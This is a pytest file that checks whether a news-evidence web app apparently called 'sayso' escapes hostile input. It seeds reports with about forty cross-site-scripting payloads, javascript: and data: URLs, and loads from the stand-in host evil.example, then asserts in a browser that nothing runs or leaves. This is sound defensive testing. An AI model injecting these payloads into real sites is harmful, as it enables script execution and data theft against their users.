"""Hostile reports: a hundred and fifty payloads as text, title, name and address; no script runs, nothing leaves the desk, nothing breaks the policy."""

import pytest

from sayso.model import Document, When

RUN = "window.__ran=1"
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<script\x0c>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import '//evil.example/x.js'</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'>",
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror='{RUN}'>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "<svg><use href=//evil.example/x.svg#a></svg>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<iframe src=//evil.example/></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><button>go</button></form>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f'" autofocus onfocus="{RUN}',
    f"' autofocus onfocus='{RUN}",
    f'" onmouseover="{RUN}" x="',
    "{{ 7*7 }}{% raw %}",
    "${7*7}`",
    f"<x hx-get=//evil.example/ hx-trigger=load hx-on:load={RUN}>",
    f'" hx-on:click="{RUN}" hx-get="//evil.example/',
]
ADDRESSES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f'https://evil.example/"><script>{RUN}</script>',
    f"https://evil.example/' onmouseover='{RUN}",
]


def reports():
    """Every payload as a part of the text, the title, the outlet and a speaker's name; addresses as the address."""
    day = When("2026-03-02")
    for n, payload in enumerate(PAYLOADS):
        text = (
            f"The mayor of Korlavets, Odo Brandel, said that {payload} troops had left number {n}."
        )
        yield Document(text, title=f"Report {n}", outlet="Post", published=day)
        plain = f"Troops had left number {n}, the mayor Odo Brandel said."
        yield Document(plain, title=f"{payload} {n}", outlet="Post", published=day)
        yield Document(plain + " It is so.", title=f"Note {n}", outlet=f"{payload}", published=day)
        named = f"Troops had left the bridge {n}, Odo {payload} Brandel said on Monday."
        yield Document(named, title=f"Names {n}", outlet="Post", published=day, authors=(payload,))
    for n, address in enumerate(ADDRESSES):
        text = f"Troops had left the dam {n}, the mayor Odo Brandel said."
        yield Document(text, title=f"Address {n}", outlet="Post", published=day, url=address)


@pytest.fixture
def hostile(own):
    assert sum(added.new for added in own.desk.add(reports())) >= 150
    return own


@pytest.mark.timeout(400)
def test_nothing_of_a_report_ever_runs_or_leaves(browser, hostile, web):
    with web.looking(browser, hostile) as page:
        page.add_init_script(
            "window.__broken=[];document.addEventListener('securitypolicyviolation',e=>window.__broken.push(e.violatedDirective+' '+e.blockedURI))"
        )
        view = hostile.desk.evidence()
        mine = [d for d in view.documents.values() if d.published.text == "2026-03-02"]
        assert len(mine) >= 150
        addresses = [
            "overview",
            "claims?page=2",
            "claims",
            "matrix",
            "lineage",
            "contradictions",
            "review",
            "sources",
            "timeline",
            "map",
            "add",
        ]
        addresses += [f"d/{d.id}" for d in mine]
        addresses += [
            f"c/{c.id}" for c in view.claims.values() if c.document in {d.id for d in mine[::5]}
        ]
        addresses += [
            f"claims?speaker={p[:30]}" for p in ('"><script>window.__ran=1</script>', "<img src=x>")
        ]
        for address in addresses:
            page.goto(hostile.at(address), wait_until="domcontentloaded")
            assert page.evaluate("window.__ran") is None, address
            assert page.evaluate("window.__broken") == [], address
            assert page.locator("script:not([src^='/static/'])").count() == 0, address
            assert (
                page.locator(
                    "[href^='javascript:' i], [href^='data:' i], iframe, object, embed"
                ).count()
                == 0
            ), address
        assert page.watch.foreign == []
        assert page.watch.wrong == []


def test_the_browser_would_tell_of_a_script_that_ran(browser, served, web):
    with web.looking(browser, served, bypass_csp=True) as page:
        page.goto(served.at("overview"))
        page.evaluate(
            "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=window.__ran=1>')"
        )
        page.wait_for_function("window.__ran === 1")
